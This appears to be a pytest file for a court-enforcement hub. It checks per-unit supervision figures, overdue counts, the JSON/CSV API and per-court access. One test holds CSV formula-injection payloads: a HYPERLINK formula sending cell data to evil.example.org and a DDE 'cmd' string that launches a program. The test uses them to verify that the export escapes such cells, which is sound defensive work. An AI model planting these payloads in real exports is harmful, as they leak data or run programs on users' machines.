"""The supervision figures per unit. Tasks are made through the API (query requests, receipts from the
units' staff), then their instants are set with UPDATEs so every expected figure is written by hand.

The March 2026 scenario, court J2426, judged at Tue 2026-03-24 10:00 (Shanghai):
  real-estate    4 answered in March: 1, 0, 3 working days on time; 5 late -> 3/4 on time, median 2
                 (one answered, served 02-28 23:59:59, is before the period)
  vehicles       3 answered: 0; 3 (closed exactly at due_at); 5 late -> 2/3, median 3;
                 1 open, due Fri 03-20: 2 working days overdue on Tuesday (the weekend not counted);
                 (one served 04-01 00:00 is after the period)
  civil-affairs  1 objected (served Sun 03-01 00:00, 2 working days), 1 interim-acknowledged served
                 03-31 23:59:59, 1 open not yet due, 1 open due 03-19 (3 overdue), and 1 served in
                 February due 02-27 (18 overdue: the adjusted working Saturday 02-28 counts)
  every unit     1 task of a request withdrawn in March: received, never answered nor overdue
"""

import csv
import io
import re
from datetime import date, datetime

import pytest
from conftest import edit, listed_files, multipart
from sqlalchemy import update

import hub.supervision.endpoints as supervision_endpoints
from hub.calendar.service import load_calendar
from hub.calendar.workdays import SHANGHAI
from hub.db import unit_of_work
from hub.errors import NotFound
from hub.models import Task, Unit
from hub.supervision.service import OverdueTask, UnitFigures, period, unit_figures

AT = datetime(2026, 3, 24, 10, 0, tzinfo=SHANGHAI)
UNITS = ("real-estate", "vehicles", "civil-affairs")
NAMES = {
    "civil-affairs": "安图县民政局",
    "real-estate": "安图县不动产登记中心",
    "vehicles": "安图县公安局交通管理大队车辆管理所",
    "housing-fund": "延边州住房公积金管理中心安图县管理部",
}
CASE_NO = "（2026）吉2426执156号"


def sh(month: int, day: int, hour: int = 10, minute: int = 0, second: int = 0) -> datetime:
    return datetime(2026, month, day, hour, minute, second, tzinfo=SHANGHAI)


def end_of(month: int, day: int) -> datetime:
    return sh(month, day, 23, 59, 59)


@pytest.fixture
def frozen_at(monkeypatch):
    """The endpoints' clock stopped at AT."""
    monkeypatch.setattr(supervision_endpoints, "now", lambda: AT)
    monkeypatch.setattr(supervision_endpoints, "today_shanghai", lambda: AT.date())


def query(client, headers, request_no: str, court: str = "J2426") -> dict:
    """request-query.xml under another RequestNo (and court): one task each for UNITS; unit -> task id."""
    document = edit("request-query.xml", ("AT-2026-000101", request_no), ('code="J2426"', f'code="{court}"'))
    response = client.post(
        "/api/v1/requests", files=multipart(document, *listed_files(document)), headers=headers
    )
    assert response.status_code == 201, response.text
    body = response.json()
    return {"id": body["id"]} | {t["unit_code"]: t["id"] for t in body["tasks"]}


def answer(client, token, task_id: int, request_no: str, unit: str, receipt: str = "receipt-not-found.xml"):
    """A receipt example, rewritten to answer `task_id` for `unit`, posted by the unit's staff."""
    document = edit(receipt)
    for tag, value in (
        ("RequestNo", request_no),
        ("UnitCode", unit),
        ("ReceiptNo", f"SV-2026-{task_id:04d}"),
    ):
        document = re.sub(rf"<{tag}>[^<]*</{tag}>".encode(), f"<{tag}>{value}</{tag}>".encode(), document)
    response = client.post(
        f"/api/v1/tasks/{task_id}/receipts",
        files=multipart(document, *listed_files(document)),
        headers=token(f"staff-{unit}"),
    )
    assert response.status_code == 201, response.text


def set_instants(hub, task_id: int, *, served: datetime, due: datetime, closed: datetime | None = None):
    values = {"served_at": served, "due_at": due} | ({"closed_at": closed} if closed else {})
    with unit_of_work(hub.sessions) as session:
        assert session.execute(update(Task).where(Task.id == task_id).values(**values)).rowcount == 1


# request no -> unit -> (served, due, closed or None for open, receipt or None)
SCENARIO = {
    "AT-2026-000201": {
        "real-estate": (sh(3, 2), end_of(3, 5), sh(3, 3, 15), "receipt-not-found.xml"),
        "vehicles": (sh(3, 2), end_of(3, 5), sh(3, 2, 16), "receipt-not-found.xml"),
        "civil-affairs": (sh(2, 24), end_of(2, 27), None, None),
    },
    "AT-2026-000202": {
        "real-estate": (sh(3, 3), end_of(3, 6), sh(3, 3, 18), "receipt-not-found.xml"),
        "vehicles": (sh(3, 3), end_of(3, 6), end_of(3, 6), "receipt-not-found.xml"),
        "civil-affairs": (sh(3, 16), end_of(3, 19), None, None),
    },
    "AT-2026-000203": {
        "real-estate": (sh(3, 4), end_of(3, 9), sh(3, 9, 16), "receipt-info-mismatch.xml"),
        "vehicles": (sh(3, 4), end_of(3, 9), sh(3, 11, 9), "receipt-not-found.xml"),
        "civil-affairs": (sh(3, 23), end_of(3, 26), None, None),
    },
    "AT-2026-000204": {
        "real-estate": (sh(3, 5), end_of(3, 10), sh(3, 12, 11), "receipt-not-found.xml"),
        "vehicles": (sh(3, 17), end_of(3, 20), None, None),
        "civil-affairs": (sh(3, 1, 0), end_of(3, 4), sh(3, 3, 9), "receipt-objected.xml"),
    },
    "AT-2026-000205": {
        "real-estate": (end_of(2, 28), end_of(3, 4), sh(3, 2), "receipt-not-found.xml"),
        "vehicles": (sh(4, 1, 0), end_of(4, 6), sh(4, 1, 9), "receipt-not-found.xml"),
        "civil-affairs": (end_of(3, 31), end_of(4, 3), None, "receipt-interim.xml"),
    },
}
WITHDRAWN = "AT-2026-000206"


@pytest.fixture
def march(client, token, hub) -> dict[str, dict]:
    """The scenario of the module docstring; request no -> {"id": request id, unit: task id}."""
    officer, made = token("officer"), {}
    for request_no, tasks in SCENARIO.items():
        made[request_no] = ids = query(client, officer, request_no)
        for unit, (served, due, closed, receipt) in tasks.items():
            if receipt:
                answer(client, token, ids[unit], request_no, unit, receipt)
            set_instants(hub, ids[unit], served=served, due=due, closed=closed)
    made[WITHDRAWN] = ids = query(client, officer, WITHDRAWN)
    cancelled = client.post(
        f"/api/v1/requests/{ids['id']}/cancel", json={"reason": "发错了"}, headers=officer
    )
    assert cancelled.status_code == 200, cancelled.text
    for unit in UNITS:
        set_instants(hub, ids[unit], served=sh(3, 10), due=end_of(3, 13), closed=sh(3, 11))
    return made


def overdue(made, request_no, unit, due, days, case_no=CASE_NO) -> OverdueTask:
    ids = made[request_no]
    return OverdueTask(ids[unit], ids["id"], request_no, case_no, "QUERY", unit, due, days)


def figures(hub, **kwargs) -> list[UnitFigures]:
    start, end = period(date(2026, 3, 1), date(2026, 3, 31))
    with unit_of_work(hub.sessions) as session:
        return unit_figures(session, calendar=load_calendar(session), start=start, end=end, at=AT, **kwargs)


def test_figures_of_march(hub, march):
    got = figures(hub, court_code="J2426")

    assert [f.unit_code for f in got] == ["civil-affairs", "real-estate", "vehicles"]
    civil, real_estate, vehicles = got
    assert real_estate == UnitFigures(
        "real-estate", NAMES["real-estate"], 5, 4, 3, 75.0, 2.0, {"INFO_MISMATCH": 1, "NOT_FOUND": 3}, []
    )
    assert vehicles == UnitFigures(
        "vehicles",
        NAMES["vehicles"],
        5,
        3,
        2,
        pytest.approx(66.667, abs=0.001),
        3.0,
        {"NOT_FOUND": 3},
        [overdue(march, "AT-2026-000204", "vehicles", end_of(3, 20), 2)],
    )
    assert civil == UnitFigures(
        "civil-affairs",
        NAMES["civil-affairs"],
        5,
        1,
        1,
        100.0,
        2.0,
        {"OBJECTED": 1},
        [  # oldest due first, whenever served
            overdue(march, "AT-2026-000201", "civil-affairs", end_of(2, 27), 18),
            overdue(march, "AT-2026-000202", "civil-affairs", end_of(3, 19), 3),
        ],
    )
    assert figures(hub) == got  # one court in the database: the same without court_code


def test_overdue_is_judged_at_the_instant_given(hub, march):
    def vehicles_overdue(at: datetime) -> list[int]:
        start, end = period(date(2026, 3, 1), date(2026, 3, 31))
        with unit_of_work(hub.sessions) as session:
            [f] = unit_figures(
                session, calendar=load_calendar(session), start=start, end=end, at=at, unit_codes=["vehicles"]
            )
        return [t.working_days_overdue for t in f.open_overdue]

    assert vehicles_overdue(end_of(3, 20)) == []  # at the due instant itself: not yet overdue
    assert vehicles_overdue(sh(3, 21)) == [0]  # Saturday: overdue, no working day yet
    assert vehicles_overdue(sh(3, 22)) == [0]
    assert vehicles_overdue(sh(3, 23, 8)) == [1]  # Monday
    assert vehicles_overdue(AT) == [2]


def test_named_units_are_listed_in_the_order_given_even_with_nothing(hub, march):
    housing_fund, vehicles = figures(hub, unit_codes=["housing-fund", "vehicles"])

    assert housing_fund == UnitFigures("housing-fund", NAMES["housing-fund"], 0, 0, 0, None, None, {}, [])
    assert (vehicles.received, vehicles.answered, vehicles.median_working_days) == (5, 3, 3.0)
    with pytest.raises(NotFound, match="no-such-unit"):
        figures(hub, unit_codes=["vehicles", "no-such-unit"])


def test_api_lists_the_figures_as_json(client, token, march, frozen_at):
    response = client.get(
        "/api/v1/supervision/units?from=2026-03-01&to=2026-03-31", headers=token("supervisor")
    )

    assert response.status_code == 200, response.text
    by_unit = {f["unit_code"]: f for f in response.json()}
    assert sorted(by_unit) == ["civil-affairs", "real-estate", "vehicles"]
    assert by_unit["real-estate"] == {
        "unit_code": "real-estate",
        "unit_name": NAMES["real-estate"],
        "received": 5,
        "answered": 4,
        "on_time": 3,
        "on_time_pct": 75.0,
        "median_working_days": 2.0,
        "outcomes": {"INFO_MISMATCH": 1, "NOT_FOUND": 3},
        "open_overdue": [],
    }
    [late] = by_unit["vehicles"]["open_overdue"]
    assert late == {
        "task_id": march["AT-2026-000204"]["vehicles"],
        "request_id": march["AT-2026-000204"]["id"],
        "request_no": "AT-2026-000204",
        "case_no": CASE_NO,
        "action": "QUERY",
        "unit_code": "vehicles",
        "due_at": "2026-03-20T23:59:59+08:00",
        "working_days_overdue": 2,
    }
    assert [t["working_days_overdue"] for t in by_unit["civil-affairs"]["open_overdue"]] == [18, 3]


def test_api_default_period_is_the_month_so_far(client, token, march, frozen_at):
    officer = token("officer")
    default = client.get("/api/v1/supervision/units", headers=officer).json()
    explicit = client.get("/api/v1/supervision/units?from=2026-03-01&to=2026-03-24", headers=officer)

    assert default == explicit.json()
    civil = next(f for f in default if f["unit_code"] == "civil-affairs")
    assert civil["received"] == 4  # the task served 03-31 is not in 03-01..03-24
    [vehicles] = client.get("/api/v1/supervision/units?unit=vehicles", headers=officer).json()
    assert (vehicles["received"], vehicles["on_time"]) == (5, 2)


def test_api_csv_opens_in_excel(client, token, march, frozen_at):
    response = client.get(
        "/api/v1/supervision/units.csv?from=2026-03-01&to=2026-03-31", headers=token("supervisor")
    )

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert "supervision-units-2026-03-01-2026-03-31.csv" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "单位代码",
        "单位名称",
        "收到",
        "已答复",
        "按期",
        "按期率",
        "答复用时中位数(工作日)",
        "逾期未办",
    ]
    assert rows[1:] == [
        ["civil-affairs", NAMES["civil-affairs"], "5", "1", "1", "100.0", "2", "2"],
        ["real-estate", NAMES["real-estate"], "5", "4", "3", "75.0", "2", "0"],
        ["vehicles", NAMES["vehicles"], "5", "3", "2", "66.7", "3", "1"],
    ]
    empty = client.get("/api/v1/supervision/units.csv?unit=housing-fund", headers=token("admin"))
    assert (
        empty.content.decode("utf-8-sig").splitlines()[1] == f"housing-fund,{NAMES['housing-fund']},0,0,0,,,0"
    )


def test_csv_cells_never_run_as_formulas(client, token, hub):
    """A name that a spreadsheet would take for a formula (=HYPERLINK would open a link, =cmd|... once ran
    programs) comes out as text: with an apostrophe in front, as Excel and WPS show text."""
    names = {
        "housing-fund": '=HYPERLINK("http://evil.example.org/?"&A1,"详情")',
        "vehicles": "+1+cmd|' /C calc'!A0",
        "civil-affairs": "-2+3",
        "real-estate": "@SUM(1,2)",
    }
    with unit_of_work(hub.sessions) as session:
        for code, name in names.items():
            session.execute(update(Unit).where(Unit.code == code).values(name=name))

    shown = {}
    for code in names:
        response = client.get(f"/api/v1/supervision/units.csv?unit={code}", headers=token("supervisor"))
        [_, row] = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        shown[row[0]] = row[1]

    assert shown == {code: "'" + name for code, name in names.items()}


def test_api_refuses_unit_staff_and_bad_parameters(client, token):
    staff = token("staff-vehicles")
    for path in ("/api/v1/supervision/units", "/api/v1/supervision/units.csv"):
        response = client.get(path, headers=staff)
        assert response.status_code == 403, response.text
        assert response.json()["error"]["code"] == "forbidden"
        assert client.get(path).status_code == 401
    backwards = client.get("/api/v1/supervision/units?from=2026-03-31&to=2026-03-01", headers=token("admin"))
    assert backwards.status_code == 422 and backwards.json()["error"]["code"] == "invalid_parameters"
    unknown = client.get("/api/v1/supervision/units?unit=no-such-unit", headers=token("admin"))
    assert unknown.status_code == 404, unknown.text


def test_each_court_sees_its_own_requests(client, token, hub, other_officer, frozen_at):
    ours = query(client, token("officer"), "AT-2026-000301")
    theirs = query(client, other_officer, "AT-2026-000301", court="J2401")
    for ids in (ours, theirs):
        for unit in UNITS:
            set_instants(hub, ids[unit], served=sh(3, 9), due=end_of(3, 12))
    answer(client, token, theirs["real-estate"], "AT-2026-000301", "real-estate")
    set_instants(hub, theirs["real-estate"], served=sh(3, 9), due=end_of(3, 12), closed=sh(3, 10))

    def by_unit(headers, court=""):
        url = f"/api/v1/supervision/units?from=2026-03-01&to=2026-03-31{court}"
        response = client.get(url, headers=headers)
        assert response.status_code == 200, response.text
        return {
            f["unit_code"]: (f["received"], f["answered"], len(f["open_overdue"])) for f in response.json()
        }

    assert by_unit(token("supervisor")) == {
        "civil-affairs": (1, 0, 1),
        "real-estate": (1, 0, 1),
        "vehicles": (1, 0, 1),
    }
    theirs_seen = {"civil-affairs": (1, 0, 1), "real-estate": (1, 1, 0), "vehicles": (1, 0, 1)}
    assert by_unit(other_officer) == theirs_seen
    assert by_unit(token("admin")) == {
        "civil-affairs": (2, 0, 2),
        "real-estate": (2, 1, 1),
        "vehicles": (2, 0, 2),
    }
    assert by_unit(token("admin"), "&court=J2401") == theirs_seen
    [real_estate] = client.get("/api/v1/supervision/units?unit=real-estate", headers=token("officer")).json()
    assert [t["task_id"] for t in real_estate["open_overdue"]] == [ours["real-estate"]]

    refused = client.get("/api/v1/supervision/units?court=J2401", headers=token("officer"))
    assert refused.status_code == 403, refused.text
    assert client.get("/api/v1/supervision/units?court=J9999", headers=token("admin")).status_code == 404
